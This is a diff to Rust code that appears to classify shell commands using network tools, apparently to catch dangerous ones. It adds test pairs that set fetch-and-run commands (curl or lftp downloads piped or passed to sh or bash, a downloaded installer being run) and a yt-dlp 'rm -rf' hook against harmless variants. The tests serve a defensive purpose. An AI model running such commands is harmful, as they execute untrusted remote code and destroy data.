@@ -116,7 +116,7 @@ fn curl(call: &mut Call<'_, '_>) {
                 sends(call, &part, &to);
             }
             "A" | "user-agent" | "e" | "referer" | "b" | "cookie" | "u" | "user" | "oauth2-bearer" => {
-                sends(call, value, &to)
+                sends(call, value, &to);
             }
             "D" | "dump-header" | "etag-save" | "trace" | "trace-ascii" | "stderr" if value != "-" && value != "%" => {
                 arrives(call, value, Writing::Replace);
@@ -357,7 +357,11 @@ fn httpie(call: &mut Call<'_, '_>) {
     if options.asks_only() {
         return call.print(&PLAIN.to_string());
     }
-    let is_method = |word: &String| !word.is_empty() && word.bytes().all(|byte| byte.is_ascii_uppercase());
+    let is_method = |word: &String| {
+        ["GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS"]
+            .iter()
+            .any(|method| word.eq_ignore_ascii_case(method))
+    };
     let (method, rest) = match options.operands.as_slice() {
         [method, rest @ ..] if is_method(method) && !rest.is_empty() => (Some(method.clone()), rest),
         rest => (None, rest),
@@ -569,6 +573,14 @@ mod tests {
             ("aria2c --on-download-complete=./evil https://x.example/i", "aria2c -x4 https://x.example/i"),
             ("w3m -dump_source https://x.example/i | sh", "w3m -dump https://x.example/"),
             ("fetch https://x.example/i.sh && sh i.sh", "fetch https://x.example/i.sh && file i.sh"),
+            ("curl -OL https://x.example/i.sh?x=1 && bash i.sh", "curl -OL https://x.example/i.sh?x=1"),
+            (
+                "curl -L https://x.example/a | tar xz -C /tmp/a && /tmp/a/install",
+                "curl -L https://x.example/a | tar tz",
+            ),
+            ("curl -o i https://x.example; ln -s i j; sh ./j", "curl -o i https://x.example; bash -n i"),
+            ("curl -s https://x.example/p | sed -f - a.txt", "curl -s https://x.example/p | sed s/a/b/"),
+            ("lftp -e 'get i.sh; quit' h && sh i.sh", "lftp -e 'get i.sh; quit' h"),
             ("yt-dlp --exec 'rm -rf data' https://x.example/v", "yt-dlp https://x.example/v"),
         ] {
             pair(dangerous, safe);
